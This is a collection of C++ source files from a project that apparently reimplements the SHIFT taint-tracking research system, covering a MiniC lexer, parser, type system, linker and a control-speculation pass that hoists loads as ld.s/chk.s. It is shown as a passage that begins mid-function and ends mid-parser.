     * load non-speculatively.
     */
    bool
    transformOne()
    {
        Cfg cfg = buildCfg(fn_);
        Liveness live = computeLiveness(fn_, cfg,
                                        [](int r) { return r > 0; });
        countLabelRefs();

        for (size_t b = 0; b < cfg.numBlocks(); ++b) {
            size_t s = cfg.blockStart[b];
            if (fn_.code[s].op != Opcode::Label)
                continue;
            int64_t label = fn_.code[s].imm;
            if (labelRefs_[label] != 1 || s < 2)
                continue;
            const Instr &uncond = fn_.code[s - 1];
            const Instr &cond = fn_.code[s - 2];
            if (uncond.op != Opcode::Br || uncond.qp != 0 ||
                cond.op != Opcode::Br || cond.qp == 0 ||
                cond.imm != label)
                continue;

            // Find the first load in the block, fed only by a
            // contiguous speculable ALU chain.
            size_t j = s + 1;
            bool chainOk = true;
            while (j < cfg.blockEnd[b] &&
                   fn_.code[j].op != Opcode::Ld) {
                if (!isSpeculableAlu(fn_.code[j])) {
                    chainOk = false;
                    break;
                }
                ++j;
            }
            if (!chainOk || j >= cfg.blockEnd[b])
                continue;
            const Instr &ld = fn_.code[j];
            if (ld.spec || ld.fill || ld.qp != 0 ||
                ld.prov != Provenance::Original ||
                ld.r1 == ld.r2 || ld.r1 == reg::zero)
                continue;
            if (static_cast<int>(j - s) > opt_.maxHoistDistance)
                continue;
            ++stats_.candidates;

            // Worth hoisting only when the next instruction consumes
            // the loaded value (the stall speculation hides).
            if (j + 1 >= cfg.blockEnd[b] ||
                !usesReg(fn_.code[j + 1], ld.r1))
                continue;

            // Every register the hoisted group defines must be dead on
            // the other path.
            std::set<int> defs;
            for (size_t k = s + 1; k < j; ++k) {
                int d = defReg(fn_.code[k]);
                if (d > 0)
                    defs.insert(d);
            }
            defs.insert(ld.r1);
            bool safe = true;
            for (int d : defs) {
                if (liveInAtLabel(cfg, live, uncond.imm, d)) {
                    safe = false;
                    break;
                }
            }
            if (!safe)
                continue;

            apply(s, j);
            ++stats_.hoisted;
            return true;
        }
        return false;
    }

    /**
     * Rebuild the function:
     *   [0, s-2)                                (unchanged prefix)
     *   chain, ld.s                             (hoisted group)
     *   (p) br Lthis ; br Lother ; Lthis:
     *   chk.s dst, Lrec ; Lback:
     *   [j+1, end)                              (unchanged suffix)
     *   Lrec: ld ; br Lback                     (recovery tail)
     */
    void
    apply(size_t s, size_t j)
    {
        Instr original = fn_.code[j];
        int recoveryLabel = fn_.newLabel();
        int backLabel = fn_.newLabel();

        std::vector<Instr> out;
        out.reserve(fn_.code.size() + 6);
        out.insert(out.end(), fn_.code.begin(),
                   fn_.code.begin() + static_cast<long>(s) - 2);

        // Hoisted address chain + speculative load.
        out.insert(out.end(),
                   fn_.code.begin() + static_cast<long>(s) + 1,
                   fn_.code.begin() + static_cast<long>(j));
        Instr lds = original;
        lds.spec = true;
        out.push_back(lds);

        // The branch pair and the block label.
        out.push_back(fn_.code[s - 2]);
        out.push_back(fn_.code[s - 1]);
        out.push_back(fn_.code[s]);

        // Original load site: check + re-entry point.
        Instr chk;
        chk.op = Opcode::Chk;
        chk.r2 = original.r1;
        chk.imm = recoveryLabel;
        out.push_back(chk);
        out.push_back(makeLabel(backLabel));

        out.insert(out.end(),
                   fn_.code.begin() + static_cast<long>(j) + 1,
                   fn_.code.end());

        // Recovery: the non-speculative load, fully tracked by the
        // ordinary instrumentation (paper section 3.3.4).
        out.push_back(makeLabel(recoveryLabel));
        out.push_back(original);
        out.push_back(makeBr(backLabel));

        fn_.code = std::move(out);
    }
};

} // namespace

SpeculateStats
speculateLoads(Program &program, const SpeculateOptions &options)
{
    SpeculateStats stats;
    for (Function &fn : program.functions) {
        FunctionSpeculator fs(fn, options, stats);
        fs.run();
    }
    return stats;
}

} // namespace shift::minic
