#include "type.hh"

#include "support/logging.hh"

namespace shift::minic
{

uint64_t
Type::size() const
{
    switch (kind) {
      case TypeKind::Void: return 0;
      case TypeKind::Char: return 1;
      case TypeKind::Int: return 4;
      case TypeKind::Long: return 8;
      case TypeKind::Ptr: return 8;
      case TypeKind::Array: return elem->size() * count;
    }
    return 0;
}

std::string
Type::name() const
{
    switch (kind) {
      case TypeKind::Void: return "void";
      case TypeKind::Char: return "char";
      case TypeKind::Int: return "int";
      case TypeKind::Long: return "long";
      case TypeKind::Ptr: return elem->name() + "*";
      case TypeKind::Array:
        return elem->name() + "[" + std::to_string(count) + "]";
    }
    return "?";
}

TypePool::TypePool()
{
    void_.kind = TypeKind::Void;
    char_.kind = TypeKind::Char;
    int_.kind = TypeKind::Int;
    long_.kind = TypeKind::Long;
}

const Type *
TypePool::ptr(const Type *elem)
{
    for (const auto &t : derived_) {
        if (t->kind == TypeKind::Ptr && t->elem == elem)
            return t.get();
    }
    auto t = std::make_unique<Type>();
    t->kind = TypeKind::Ptr;
    t->elem = elem;
    derived_.push_back(std::move(t));
    return derived_.back().get();
}

const Type *
TypePool::array(const Type *elem, uint64_t count)
{
    for (const auto &t : derived_) {
        if (t->kind == TypeKind::Array && t->elem == elem &&
            t->count == count)
            return t.get();
    }
    auto t = std::make_unique<Type>();
    t->kind = TypeKind::Array;
    t->elem = elem;
    t->count = count;
    derived_.push_back(std::move(t));
    return derived_.back().get();
}

} // namespace shift::minic
