/**
 * @file
 * MiniC abstract syntax tree.
 */

#ifndef SHIFT_LANG_AST_HH
#define SHIFT_LANG_AST_HH

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "lang/type.hh"

namespace shift::minic
{

struct Expr;
struct Stmt;
using ExprPtr = std::unique_ptr<Expr>;
using StmtPtr = std::unique_ptr<Stmt>;

/** Expression node kinds. */
enum class ExprKind : uint8_t
{
    IntLit,   ///< intVal
    StrLit,   ///< strVal
    Ident,    ///< name
    Unary,    ///< op a        (- ! ~ * & ++pre --pre)
    Postfix,  ///< a op        (++ --)
    Binary,   ///< a op b
    Assign,   ///< a op b      (= += -= *= /= %= &= |= ^= <<= >>=)
    Cond,     ///< a ? b : c
    Call,     ///< name(args) — name may resolve to a function-pointer var
    Index,    ///< a[b]
    Cast,     ///< (castType) a
};

/** One expression. */
struct Expr
{
    ExprKind kind;
    int line = 0;

    int64_t intVal = 0;
    std::string strVal;
    std::string name;
    std::string op;
    ExprPtr a, b, c;
    std::vector<ExprPtr> args;
    const Type *castType = nullptr;
};

/** Statement node kinds. */
enum class StmtKind : uint8_t
{
    Block,    ///< body
    If,       ///< cond, then, maybe otherwise
    While,    ///< cond, body0
    For,      ///< init, cond, step, body0
    Return,   ///< optional value
    Break,
    Continue,
    ExprStmt, ///< value
    VarDecl,  ///< name, varType, optional init
};

/** One statement. */
struct Stmt
{
    StmtKind kind;
    int line = 0;

    ExprPtr value;            ///< cond / return value / expression
    ExprPtr init, step;       ///< for-loop pieces (init may be a decl
                              ///< via declInit)
    StmtPtr declInit;         ///< for(<decl>; ...) initial declaration
    std::vector<StmtPtr> body;
    StmtPtr then, otherwise, body0;

    std::string name;         ///< declared variable
    const Type *varType = nullptr;
};

/** One function parameter. */
struct Param
{
    std::string name;
    const Type *type = nullptr;
};

/** A function definition. */
struct FuncDecl
{
    std::string name;
    const Type *retType = nullptr;
    std::vector<Param> params;
    StmtPtr body;
    int line = 0;
};

/** A global variable definition. */
struct GlobalVarDecl
{
    std::string name;
    const Type *type = nullptr;
    ExprPtr init;  ///< integer constant or string literal, or null
    int line = 0;
};

/** A parsed translation unit. */
struct TranslationUnit
{
    std::vector<FuncDecl> functions;
    std::vector<GlobalVarDecl> globals;
};

} // namespace shift::minic

#endif // SHIFT_LANG_AST_HH
