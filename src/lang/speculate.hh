/**
 * @file
 * Control-speculation optimizer (paper section 2.2 / figure 2, and its
 * interaction with SHIFT in section 3.3.4).
 *
 * Loads are hoisted above earlier instructions as speculative ld.s; a
 * chk.s at the original site branches to recovery code (a
 * non-speculative copy of the load) when the register carries a NaT.
 * Hoisting hides the load-use latency the in-order pipeline would
 * otherwise stall on.
 *
 * Interaction with SHIFT: with taint in the NaT bit, the chk.s fires
 * not only on genuine deferred faults but also on TAINTED data — the
 * recovery path re-executes the load non-speculatively, where the
 * ordinary instrumentation tracks it. This reproduces the paper's
 * observation that "control speculation is effective only when there
 * is little tainted data involved": tainted inputs turn the
 * speculation win into recovery overhead (see bench_speculation).
 *
 * Runs after register allocation and before instrumentation.
 */

#ifndef SHIFT_LANG_SPECULATE_HH
#define SHIFT_LANG_SPECULATE_HH

#include <cstdint>

#include "isa/program.hh"

namespace shift::minic
{

/** Options for the speculation pass. */
struct SpeculateOptions
{
    /** How many instructions a load may be hoisted over. */
    int maxHoistDistance = 8;
};

/** Static results of one pass run. */
struct SpeculateStats
{
    uint64_t candidates = 0; ///< loads examined
    uint64_t hoisted = 0;    ///< loads converted to ld.s + chk.s
};

/** Speculate loads in every function of the program, in place. */
SpeculateStats speculateLoads(Program &program,
                              const SpeculateOptions &options = {});

} // namespace shift::minic

#endif // SHIFT_LANG_SPECULATE_HH
