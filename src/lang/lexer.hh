/**
 * @file
 * MiniC lexer.
 */

#ifndef SHIFT_LANG_LEXER_HH
#define SHIFT_LANG_LEXER_HH

#include <cstdint>
#include <string>
#include <vector>

namespace shift::minic
{

/** Token kinds. Punctuation tokens carry their spelling in `text`. */
enum class TokKind : uint8_t
{
    End,
    Ident,
    IntLit,
    CharLit,
    StrLit,
    Keyword,
    Punct,
};

/** One token. */
struct Token
{
    TokKind kind = TokKind::End;
    std::string text;      ///< identifier / keyword / punct spelling
    std::string strVal;    ///< decoded string literal contents
    int64_t intVal = 0;    ///< integer / char literal value
    int line = 0;

    bool is(TokKind k) const { return kind == k; }
    bool isPunct(const char *p) const
    {
        return kind == TokKind::Punct && text == p;
    }
    bool isKeyword(const char *k) const
    {
        return kind == TokKind::Keyword && text == k;
    }
};

/**
 * Tokenize MiniC source. Throws FatalError with a line number on
 * malformed input. The returned vector always ends with an End token.
 */
std::vector<Token> tokenize(const std::string &source);

} // namespace shift::minic

#endif // SHIFT_LANG_LEXER_HH
