#include "compiler.hh"

#include "lang/codegen.hh"
#include "lang/parser.hh"
#include "lang/regalloc.hh"
#include "lang/type.hh"
#include "support/logging.hh"

namespace shift::minic
{

void
linkProgram(Program &program)
{
    GlobalLayout layout = computeGlobalLayout(program);

    auto resolve = [&](const std::string &symbol) -> uint64_t {
        auto it = layout.addr.find(symbol);
        if (it != layout.addr.end())
            return it->second;
        auto fn = program.findFunction(symbol);
        if (fn)
            return funcDescAddr(*fn);
        SHIFT_FATAL("link error: undefined symbol '%s'", symbol.c_str());
    };

    for (Function &fn : program.functions) {
        for (Instr &instr : fn.code) {
            if (instr.op == Opcode::Movi && !instr.callee.empty()) {
                instr.imm = static_cast<int64_t>(resolve(instr.callee));
                instr.callee.clear();
            }
        }
    }
    for (GlobalDef &g : program.globals) {
        if (!g.initSymbol.empty()) {
            uint64_t addr = resolve(g.initSymbol);
            g.init.assign(8, 0);
            for (int i = 0; i < 8; ++i)
                g.init[static_cast<size_t>(i)] =
                    static_cast<uint8_t>(addr >> (8 * i));
            g.initSymbol.clear();
        }
    }
}

Program
compileProgram(const std::vector<std::string> &sources,
               const CompileOptions &options)
{
    std::string merged;
    for (const std::string &src : sources) {
        merged += src;
        merged += "\n";
    }

    TypePool pool;
    TranslationUnit unit = parse(merged, pool);
    GenOutput gen = generate(unit, pool);

    for (Function &fn : gen.program.functions) {
        auto it = gen.info.find(fn.name);
        SHIFT_ASSERT(it != gen.info.end());
        allocateRegisters(fn, it->second);
    }

    if (options.requireMain && !gen.program.findFunction("main"))
        SHIFT_FATAL("program has no 'main' function");

    linkProgram(gen.program);
    return gen.program;
}

Program
compileProgram(const std::string &source, const CompileOptions &options)
{
    return compileProgram(std::vector<std::string>{source}, options);
}

} // namespace shift::minic
