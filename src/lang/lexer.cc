#include "lexer.hh"

#include <cctype>
#include <set>

#include "support/logging.hh"

namespace shift::minic
{

namespace
{

const std::set<std::string> kKeywords = {
    "void", "char", "int", "long",
    "if", "else", "while", "for", "return", "break", "continue",
};

// Multi-character punctuation, longest first so maximal munch works.
const char *kPuncts[] = {
    "<<=", ">>=", "<<", ">>", "<=", ">=", "==", "!=", "&&", "||",
    "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "++", "--",
    "+", "-", "*", "/", "%", "&", "|", "^", "~", "!", "<", ">",
    "=", "(", ")", "{", "}", "[", "]", ";", ",", "?", ":",
};

/** Decode one escape sequence starting after the backslash. */
char
decodeEscape(char c, int line)
{
    switch (c) {
      case 'n': return '\n';
      case 't': return '\t';
      case 'r': return '\r';
      case '0': return '\0';
      case '\\': return '\\';
      case '\'': return '\'';
      case '"': return '"';
      default:
        SHIFT_FATAL("line %d: unknown escape '\\%c'", line, c);
    }
}

} // namespace

std::vector<Token>
tokenize(const std::string &source)
{
    std::vector<Token> tokens;
    size_t i = 0;
    int line = 1;
    size_t n = source.size();

    auto peek = [&](size_t off = 0) -> char {
        return i + off < n ? source[i + off] : '\0';
    };

    while (i < n) {
        char c = source[i];
        if (c == '\n') {
            ++line;
            ++i;
            continue;
        }
        if (std::isspace(static_cast<unsigned char>(c))) {
            ++i;
            continue;
        }
        // Comments.
        if (c == '/' && peek(1) == '/') {
            while (i < n && source[i] != '\n')
                ++i;
            continue;
        }
        if (c == '/' && peek(1) == '*') {
            i += 2;
            while (i + 1 < n && !(source[i] == '*' && source[i + 1] == '/')) {
                if (source[i] == '\n')
                    ++line;
                ++i;
            }
            if (i + 1 >= n)
                SHIFT_FATAL("line %d: unterminated comment", line);
            i += 2;
            continue;
        }

        Token tok;
        tok.line = line;

        if (std::isalpha(static_cast<unsigned char>(c)) || c == '_') {
            size_t start = i;
            while (i < n && (std::isalnum(
                                 static_cast<unsigned char>(source[i])) ||
                             source[i] == '_'))
                ++i;
            tok.text = source.substr(start, i - start);
            tok.kind = kKeywords.count(tok.text) ? TokKind::Keyword
                                                 : TokKind::Ident;
            tokens.push_back(std::move(tok));
            continue;
        }

        if (std::isdigit(static_cast<unsigned char>(c))) {
            size_t start = i;
            int base = 10;
            if (c == '0' && (peek(1) == 'x' || peek(1) == 'X')) {
                base = 16;
                i += 2;
            }
            while (i < n && (std::isalnum(
                       static_cast<unsigned char>(source[i]))))
                ++i;
            std::string text = source.substr(start, i - start);
            try {
                tok.intVal = static_cast<int64_t>(
                    std::stoull(text, nullptr, base));
            } catch (const std::exception &) {
                SHIFT_FATAL("line %d: bad integer literal '%s'", line,
                            text.c_str());
            }
            tok.kind = TokKind::IntLit;
            tok.text = std::move(text);
            tokens.push_back(std::move(tok));
            continue;
        }

        if (c == '\'') {
            ++i;
            if (i >= n)
                SHIFT_FATAL("line %d: unterminated char literal", line);
            char v = source[i++];
            if (v == '\\') {
                if (i >= n)
                    SHIFT_FATAL("line %d: unterminated char literal",
                                line);
                v = decodeEscape(source[i++], line);
            }
            if (i >= n || source[i] != '\'')
                SHIFT_FATAL("line %d: unterminated char literal", line);
            ++i;
            tok.kind = TokKind::CharLit;
            tok.intVal = static_cast<unsigned char>(v);
            tokens.push_back(std::move(tok));
            continue;
        }

        if (c == '"') {
            ++i;
            std::string value;
            while (i < n && source[i] != '"') {
                char v = source[i++];
                if (v == '\n')
                    SHIFT_FATAL("line %d: newline in string literal",
                                line);
                if (v == '\\') {
                    if (i >= n)
                        break;
                    v = decodeEscape(source[i++], line);
                }
                value.push_back(v);
            }
            if (i >= n)
                SHIFT_FATAL("line %d: unterminated string literal", line);
            ++i;
            tok.kind = TokKind::StrLit;
            tok.strVal = std::move(value);
            tokens.push_back(std::move(tok));
            continue;
        }

        bool matched = false;
        for (const char *punct : kPuncts) {
            size_t len = std::char_traits<char>::length(punct);
            if (source.compare(i, len, punct) == 0) {
                tok.kind = TokKind::Punct;
                tok.text = punct;
                i += len;
                tokens.push_back(std::move(tok));
                matched = true;
                break;
            }
        }
        if (!matched)
            SHIFT_FATAL("line %d: unexpected character '%c'", line, c);
    }

    Token end;
    end.kind = TokKind::End;
    end.line = line;
    tokens.push_back(std::move(end));
    return tokens;
}

} // namespace shift::minic
