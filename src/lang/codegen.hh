/**
 * @file
 * MiniC code generation: AST -> SHIFT-64 instructions over virtual
 * registers.
 *
 * The generator is a typed tree walker. Scalar locals live in virtual
 * registers; arrays and address-taken locals live in the stack frame.
 * Register allocation (regalloc.hh) later maps virtual registers onto
 * the physical callee-saved set and adds prologue/epilogue code.
 *
 * Symbol references (global addresses, function descriptors, string
 * literals) are emitted as symbolic `movl` instructions and resolved
 * by linkProgram() in compiler.cc.
 */

#ifndef SHIFT_LANG_CODEGEN_HH
#define SHIFT_LANG_CODEGEN_HH

#include <cstdint>
#include <map>
#include <string>

#include "isa/program.hh"
#include "lang/ast.hh"

namespace shift::minic
{

/** First virtual register number. */
constexpr int kFirstVreg = kNumGpr;

/** Per-function results the register allocator needs. */
struct FuncGenInfo
{
    int numVregs = 0;           ///< vregs used: [kFirstVreg, kFirstVreg+n)
    uint64_t objectBytes = 0;   ///< frame bytes for arrays/escaped locals
    int epilogueLabel = -1;     ///< single exit point
};

/** Output of code generation for a translation unit. */
struct GenOutput
{
    Program program;            ///< functions with vregs; globals
    std::map<std::string, FuncGenInfo> info;
};

/**
 * Generate code for a parsed unit. `unit` is consumed (expression
 * trees are read only). Throws FatalError on semantic errors.
 */
GenOutput generate(const TranslationUnit &unit, TypePool &pool);

} // namespace shift::minic

#endif // SHIFT_LANG_CODEGEN_HH
