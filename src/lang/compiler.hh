/**
 * @file
 * MiniC compiler driver: source text -> linked, executable Program.
 */

#ifndef SHIFT_LANG_COMPILER_HH
#define SHIFT_LANG_COMPILER_HH

#include <string>
#include <vector>

#include "isa/program.hh"

namespace shift::minic
{

/** Compilation options. */
struct CompileOptions
{
    bool requireMain = true;
};

/**
 * Compile one or more MiniC source modules into a single linked
 * Program. Modules share one global namespace (they are concatenated
 * into one translation unit, like a single link step). All symbolic
 * operands are resolved; the result can be handed to an
 * instrumentation pass and/or a Machine.
 */
Program compileProgram(const std::vector<std::string> &sources,
                       const CompileOptions &options = {});

/** Convenience overload for a single module. */
Program compileProgram(const std::string &source,
                       const CompileOptions &options = {});

/**
 * Resolve symbolic movl operands (globals, function descriptors) and
 * pointer-global initializers in place. Idempotent. compileProgram
 * calls this; exposed for passes that synthesize code.
 */
void linkProgram(Program &program);

} // namespace shift::minic

#endif // SHIFT_LANG_COMPILER_HH
