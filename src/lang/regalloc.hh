/**
 * @file
 * Linear-scan register allocation for MiniC functions.
 *
 * Virtual registers are mapped onto a callee-saved pool; intervals that
 * do not fit are spilled to frame slots. All register save/restore and
 * spill traffic uses st8.spill / ld8.fill so that NaT (taint) bits
 * survive memory round-trips — the same property the paper relies on
 * ("ld8.spill and st8.fill ... automatically saved across function
 * calls", section 4.1). The prologue saves ar.unat per the IA-64 ABI.
 *
 * The SHIFT instrumentation pass runs after this pass, exactly where
 * the paper inserted its GCC phase (between pass_leaf_regs and
 * pass_sched2): all registers are physical and loads/stores are final.
 */

#ifndef SHIFT_LANG_REGALLOC_HH
#define SHIFT_LANG_REGALLOC_HH

#include "isa/program.hh"
#include "lang/codegen.hh"

namespace shift::minic
{

/** Statistics from allocating one function. */
struct AllocStats
{
    int assigned = 0;   ///< vregs given a register
    int spilled = 0;    ///< vregs assigned frame slots
    uint64_t frameSize = 0;
};

/**
 * Allocate registers for `fn` in place. `info` comes from code
 * generation. Returns allocation statistics.
 */
AllocStats allocateRegisters(Function &fn, const FuncGenInfo &info);

} // namespace shift::minic

#endif // SHIFT_LANG_REGALLOC_HH
