/**
 * @file
 * Control-flow graph construction and register liveness over SHIFT-64
 * instruction sequences.
 *
 * Used by register allocation (over virtual registers) and by the
 * control-speculation optimizer (over physical registers). Operand
 * traversal lives here so every pass agrees on what each instruction
 * reads and writes.
 */

#ifndef SHIFT_LANG_LIVENESS_HH
#define SHIFT_LANG_LIVENESS_HH

#include <cstdint>
#include <set>
#include <vector>

#include "isa/program.hh"

namespace shift::minic
{

/** Basic-block boundaries and successor edges of one function. */
struct Cfg
{
    std::vector<size_t> blockStart; ///< index of first instruction
    std::vector<size_t> blockEnd;   ///< one past the last instruction
    std::vector<std::vector<int>> succ;
    std::vector<int> blockOf;       ///< instruction index -> block

    size_t numBlocks() const { return blockStart.size(); }
};

/** Build the CFG of a function (labels must be resolvable). */
Cfg buildCfg(const Function &fn);

/** Per-block liveness sets. */
struct Liveness
{
    std::vector<std::set<int>> liveIn;
    std::vector<std::set<int>> liveOut;
};

/**
 * Compute liveness of all registers satisfying `tracked` (e.g. only
 * virtual registers, or only allocatable physical registers).
 */
Liveness computeLiveness(const Function &fn, const Cfg &cfg,
                         bool (*tracked)(int reg));

/**
 * True when register `reg` is live at the entry of the block that
 * starts at the instruction with index `target`.
 */
bool liveAt(const Liveness &live, const Cfg &cfg, size_t target,
            int reg);

} // namespace shift::minic

#endif // SHIFT_LANG_LIVENESS_HH
