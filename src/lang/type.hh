/**
 * @file
 * The MiniC type system.
 *
 * MiniC is the small C-like language our workloads are written in, so
 * that the whole pipeline — compile, SHIFT-instrument, execute — is
 * exercised the way the paper exercised GCC + SPEC. Types:
 *
 *   void, char (1 byte, unsigned), int (4 bytes, signed),
 *   long (8 bytes, signed), T* (8 bytes), T[N].
 *
 * `int` is 4 bytes on purpose: SPEC-INT code is dominated by 4-byte
 * accesses, and sub-word accesses are what make byte-granularity taint
 * tracking more expensive than word-granularity (paper figure 7).
 * Register semantics are 64-bit; narrowing happens at stores and
 * sign/zero-extension at loads, as on IA-64.
 */

#ifndef SHIFT_LANG_TYPE_HH
#define SHIFT_LANG_TYPE_HH

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

namespace shift::minic
{

/** Type kinds. */
enum class TypeKind : uint8_t
{
    Void, Char, Int, Long, Ptr, Array,
};

/** An immutable type node. Types are interned by the TypePool. */
struct Type
{
    TypeKind kind = TypeKind::Int;
    const Type *elem = nullptr; ///< pointee / array element
    uint64_t count = 0;         ///< array element count

    bool isVoid() const { return kind == TypeKind::Void; }
    bool isPointer() const { return kind == TypeKind::Ptr; }
    bool isArray() const { return kind == TypeKind::Array; }
    bool isInteger() const
    {
        return kind == TypeKind::Char || kind == TypeKind::Int ||
               kind == TypeKind::Long;
    }
    /** True for signed integer types (char is unsigned in MiniC). */
    bool isSigned() const
    {
        return kind == TypeKind::Int || kind == TypeKind::Long;
    }

    /** Storage size in bytes. */
    uint64_t size() const;

    /** Printable name ("char*", "int[10]"). */
    std::string name() const;
};

/** Owns and interns Type nodes. */
class TypePool
{
  public:
    TypePool();

    const Type *voidType() const { return &void_; }
    const Type *charType() const { return &char_; }
    const Type *intType() const { return &int_; }
    const Type *longType() const { return &long_; }

    /** Pointer to elem. */
    const Type *ptr(const Type *elem);

    /** Array of count elems. */
    const Type *array(const Type *elem, uint64_t count);

  private:
    Type void_, char_, int_, long_;
    std::vector<std::unique_ptr<Type>> derived_;
};

} // namespace shift::minic

#endif // SHIFT_LANG_TYPE_HH
