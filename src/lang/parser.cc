#include "parser.hh"

#include <map>

#include "lang/lexer.hh"
#include "support/logging.hh"

namespace shift::minic
{

namespace
{

/** Binary operator precedence (higher binds tighter). */
const std::map<std::string, int> kBinPrec = {
    {"*", 10}, {"/", 10}, {"%", 10},
    {"+", 9}, {"-", 9},
    {"<<", 8}, {">>", 8},
    {"<", 7}, {"<=", 7}, {">", 7}, {">=", 7},
    {"==", 6}, {"!=", 6},
    {"&", 5},
    {"^", 4},
    {"|", 3},
    {"&&", 2},
    {"||", 1},
};

const char *kAssignOps[] = {
    "=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>=",
};

class Parser
{
  public:
    Parser(std::vector<Token> tokens, TypePool &pool)
        : tokens_(std::move(tokens)), pool_(pool)
    {}

    TranslationUnit
    parseUnit()
    {
        TranslationUnit unit;
        while (!cur().is(TokKind::End)) {
            const Type *base = parseBaseType();
            const Type *type = parsePointerSuffix(base);
            std::string name = expectIdent();
            if (cur().isPunct("(")) {
                bool isPrototype = false;
                FuncDecl fn = parseFunction(type, name, &isPrototype);
                // Prototypes are dropped: name resolution is two-pass,
                // so forward references need no declaration.
                if (!isPrototype)
                    unit.functions.push_back(std::move(fn));
            } else {
                unit.globals.push_back(parseGlobal(type, name));
            }
        }
        return unit;
    }

  private:
    const Token &cur() const { return tokens_[pos_]; }
    const Token &peek(size_t off = 1) const
    {
        size_t i = pos_ + off;
        return i < tokens_.size() ? tokens_[i] : tokens_.back();
    }
    void advance() { if (pos_ + 1 < tokens_.size()) ++pos_; }

    [[noreturn]] void
    error(const std::string &msg)
    {
        SHIFT_FATAL("parse error at line %d: %s (near '%s')", cur().line,
                    msg.c_str(), cur().text.c_str());
    }

    void
    expectPunct(const char *p)
    {
        if (!cur().isPunct(p))
            error(std::string("expected '") + p + "'");
        advance();
    }

    std::string
    expectIdent()
    {
        if (!cur().is(TokKind::Ident))
            error("expected identifier");
        std::string name = cur().text;
        advance();
        return name;
    }

    bool
    atTypeKeyword() const
    {
        return cur().isKeyword("void") || cur().isKeyword("char") ||
               cur().isKeyword("int") || cur().isKeyword("long");
    }

    const Type *
    parseBaseType()
    {
        if (cur().isKeyword("void")) { advance(); return pool_.voidType(); }
        if (cur().isKeyword("char")) { advance(); return pool_.charType(); }
        if (cur().isKeyword("int")) { advance(); return pool_.intType(); }
        if (cur().isKeyword("long")) { advance(); return pool_.longType(); }
        error("expected a type");
    }

    const Type *
    parsePointerSuffix(const Type *type)
    {
        while (cur().isPunct("*")) {
            advance();
            type = pool_.ptr(type);
        }
        return type;
    }

    // ----- declarations --------------------------------------------------

    FuncDecl
    parseFunction(const Type *retType, const std::string &name,
                  bool *isPrototype = nullptr)
    {
        FuncDecl fn;
        fn.name = name;
        fn.retType = retType;
        fn.line = cur().line;
        expectPunct("(");
        if (!cur().isPunct(")")) {
            for (;;) {
                if (cur().isKeyword("void") && peek().isPunct(")")) {
                    advance();
                    break;
                }
                Param param;
                param.type = parsePointerSuffix(parseBaseType());
                param.name = expectIdent();
                fn.params.push_back(std::move(param));
                if (!cur().isPunct(","))
                    break;
                advance();
            }
        }
        expectPunct(")");
        if (isPrototype && cur().isPunct(";")) {
            advance();
            *isPrototype = true;
            return fn;
        }
        fn.body = parseBlock();
        return fn;
    }

    GlobalVarDecl
    parseGlobal(const Type *type, const std::string &name)
    {
        GlobalVarDecl g;
        g.name = name;
        g.line = cur().line;
        g.type = parseArraySuffix(type);
        if (cur().isPunct("=")) {
            advance();
            g.init = parseAssignExpr();
        }
        expectPunct(";");
        return g;
    }

    const Type *
    parseArraySuffix(const Type *type)
    {
        // Multi-dimensional arrays read inner-to-outer; MiniC supports
        // one dimension, which covers all workloads.
        if (cur().isPunct("[")) {
            advance();
            if (!cur().is(TokKind::IntLit))
                error("array bound must be an integer literal");
            uint64_t count = static_cast<uint64_t>(cur().intVal);
            advance();
            expectPunct("]");
            type = pool_.array(type, count);
        }
        return type;
    }

    // ----- statements ----------------------------------------------------

    StmtPtr
    parseBlock()
    {
        expectPunct("{");
        auto block = std::make_unique<Stmt>();
        block->kind = StmtKind::Block;
        block->line = cur().line;
        while (!cur().isPunct("}")) {
            if (cur().is(TokKind::End))
                error("unterminated block");
            block->body.push_back(parseStatement());
        }
        expectPunct("}");
        return block;
    }

    StmtPtr
    parseVarDecl()
    {
        auto stmt = std::make_unique<Stmt>();
        stmt->kind = StmtKind::VarDecl;
        stmt->line = cur().line;
        const Type *type = parsePointerSuffix(parseBaseType());
        stmt->name = expectIdent();
        stmt->varType = parseArraySuffix(type);
        if (cur().isPunct("=")) {
            advance();
            stmt->value = parseAssignExpr();
        }
        expectPunct(";");
        return stmt;
    }

    StmtPtr
    parseStatement()
    {
        int line = cur().line;
        if (cur().isPunct("{"))
            return parseBlock();
        if (atTypeKeyword())
            return parseVarDecl();

        auto stmt = std::make_unique<Stmt>();
        stmt->line = line;

        if (cur().isKeyword("if")) {
            advance();
            stmt->kind = StmtKind::If;
            expectPunct("(");
            stmt->value = parseExpr();
            expectPunct(")");
            stmt->then = parseStatement();
            if (cur().isKeyword("else")) {
                advance();
                stmt->otherwise = parseStatement();
            }
            return stmt;
        }
        if (cur().isKeyword("while")) {
            advance();
            stmt->kind = StmtKind::While;
            expectPunct("(");
            stmt->value = parseExpr();
            expectPunct(")");
            stmt->body0 = parseStatement();
            return stmt;
        }
        if (cur().isKeyword("for")) {
            advance();
            stmt->kind = StmtKind::For;
            expectPunct("(");
            if (!cur().isPunct(";")) {
                if (atTypeKeyword())
                    stmt->declInit = parseVarDecl(); // consumes ';'
                else {
                    stmt->init = parseExpr();
                    expectPunct(";");
                }
            } else {
                expectPunct(";");
            }
            if (!cur().isPunct(";"))
                stmt->value = parseExpr();
            expectPunct(";");
            if (!cur().isPunct(")"))
                stmt->step = parseExpr();
            expectPunct(")");
            stmt->body0 = parseStatement();
            return stmt;
        }
        if (cur().isKeyword("return")) {
            advance();
            stmt->kind = StmtKind::Return;
            if (!cur().isPunct(";"))
                stmt->value = parseExpr();
            expectPunct(";");
            return stmt;
        }
        if (cur().isKeyword("break")) {
            advance();
            stmt->kind = StmtKind::Break;
            expectPunct(";");
            return stmt;
        }
        if (cur().isKeyword("continue")) {
            advance();
            stmt->kind = StmtKind::Continue;
            expectPunct(";");
            return stmt;
        }

        stmt->kind = StmtKind::ExprStmt;
        stmt->value = parseExpr();
        expectPunct(";");
        return stmt;
    }

    // ----- expressions ---------------------------------------------------

    ExprPtr
    makeExpr(ExprKind kind)
    {
        auto e = std::make_unique<Expr>();
        e->kind = kind;
        e->line = cur().line;
        return e;
    }

    ExprPtr
    parseExpr()
    {
        return parseAssignExpr();
    }

    ExprPtr
    parseAssignExpr()
    {
        ExprPtr lhs = parseCondExpr();
        for (const char *op : kAssignOps) {
            if (cur().isPunct(op)) {
                auto e = makeExpr(ExprKind::Assign);
